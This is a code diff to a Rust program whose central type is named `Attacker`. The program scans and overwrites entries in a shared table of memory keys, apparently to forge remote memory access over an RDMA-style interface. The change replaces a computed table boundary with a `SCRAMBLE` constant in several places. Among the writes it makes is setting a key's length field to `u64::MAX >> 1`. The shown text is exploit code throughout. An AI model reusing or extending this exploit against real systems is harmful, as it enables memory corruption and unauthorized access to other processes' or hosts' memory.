@@ -4,8 +4,8 @@ use crate::kinds::{self, KINDS};
 use crate::script::mix;
 use crate::shared::Shared;
 use crate::wire::{
-    ANSWER, DATAGRAM, HEADER, Header, KEY, KEYS, MEMORY, PULLED, REQUEST, SPEAKING, face, line,
-    place, section, sequence,
+    ANSWER, DATAGRAM, HEADER, Header, KEY, KEYS, MEMORY, PULLED, REQUEST, SCRAMBLE, SPEAKING, face,
+    line, place, section, sequence,
 };
 use bellwire::memory::Mapping;
 use bellwire::wqe::opcode;
@@ -138,7 +138,7 @@ impl Attacker {
             .step_by(KEY)
             .find(|at| self.keys.read(*at) == rkey);
         let key = key.expect("it is shown");
-        let behind = self.keys.bytes - 4096;
+        let behind = SCRAMBLE;
         let of_keys = (0..KEY).step_by(4).map(|at| key + at);
         let of_memory = (0..MEMORY).step_by(4).map(|at| entry + at);
         let scramble = [behind, behind + 4];
@@ -326,9 +326,11 @@ impl Attacker {
         self.put_wide(key + 16, 0);
         self.put_wide(key + 24, u64::MAX >> 1);
         // What is behind the table means something else; and so does our memory's own entry.
-        let end = self.keys.bytes - 4096;
         let mut entries = 0u64;
-        for at in (KEYS..end).step_by(MEMORY).filter(|at| *at != self.entry) {
+        for at in (KEYS..SCRAMBLE)
+            .step_by(MEMORY)
+            .filter(|at| *at != self.entry)
+        {
             let memory = kinds::memory(4096, 0, libc::F_SEAL_SHRINK | libc::F_SEAL_GROW);
             let Ok(memory) = memory else { break };
             self.keys
@@ -369,7 +371,7 @@ impl Attacker {
 /// Where the entry of a piece of memory is, in what is shown.
 fn entry_of(keys: &Shared, addr: u64) -> usize {
     let wide = |at| u64::from(keys.read(at)) | u64::from(keys.read(at + 4)) << 32;
-    let mut entries = (KEYS..keys.bytes).step_by(MEMORY);
+    let mut entries = (KEYS..SCRAMBLE).step_by(MEMORY);
     let ours = |at: &usize| wide(at + 8) == addr && keys.read(*at) % 2 == 1;
     entries.find(ours).expect("it is shown")
 }
